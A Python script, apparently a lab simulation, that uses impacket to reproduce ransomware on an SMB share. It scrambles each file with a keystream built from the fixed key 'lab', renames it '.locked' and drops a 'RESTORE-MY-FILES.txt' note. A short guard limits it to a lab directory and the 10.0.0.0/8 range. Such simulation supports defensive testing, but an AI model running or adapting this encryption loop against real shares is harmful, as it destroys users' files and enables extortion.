"""What ransomware does to a share, done to the lab's own Samba share and to nothing else (impacket).

Each file is read, its bytes are scrambled, written back and renamed; a note is left. It refuses
to run anywhere but inside a lab that is up, and against anything but the lab's own addresses.
"""

from __future__ import annotations

import argparse
import hashlib
import ipaddress
import time
from io import BytesIO
from pathlib import Path

from impacket.smbconnection import SMBConnection


def scramble(data: bytes, key: bytes) -> bytes:
    """A stream that no longer looks like the file: as many random-looking bytes as it had."""
    out = bytearray()
    for block in range(0, len(data), 32):
        pad = hashlib.sha256(key + block.to_bytes(8, "big")).digest()
        out += bytes(a ^ b for a, b in zip(data[block : block + 32], pad, strict=False))
    return bytes(out)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--to", required=True)
    parser.add_argument("--user", required=True)
    parser.add_argument("--password", required=True)
    parser.add_argument("--share", default="share")
    parser.add_argument("--pause", type=float, default=0.1)
    options = parser.parse_args()
    if not Path("/run/hinomi-lab").is_dir() or ipaddress.ip_address(options.to) not in ipaddress.ip_network(
        "10.0.0.0/8"
    ):
        raise SystemExit("this works only inside the lab's own namespaces")
    connection = SMBConnection(options.to, options.to)
    connection.login(options.user, options.password)
    key, count = b"lab", 0
    for entry in connection.listPath(options.share, "*"):
        name = entry.get_longname()
        if entry.is_directory() or name.endswith(".locked"):
            continue
        held = BytesIO()
        connection.getFile(options.share, name, held.write)
        connection.putFile(options.share, name, BytesIO(scramble(held.getvalue(), key)).read)
        connection.rename(options.share, name, name + ".locked")
        count += 1
        time.sleep(options.pause)
    connection.putFile(
        options.share, "RESTORE-MY-FILES.txt", BytesIO(b"This is a test of the lab. Nothing is lost.\n").read
    )
    connection.logoff()
    print("files", count)


if __name__ == "__main__":
    main()
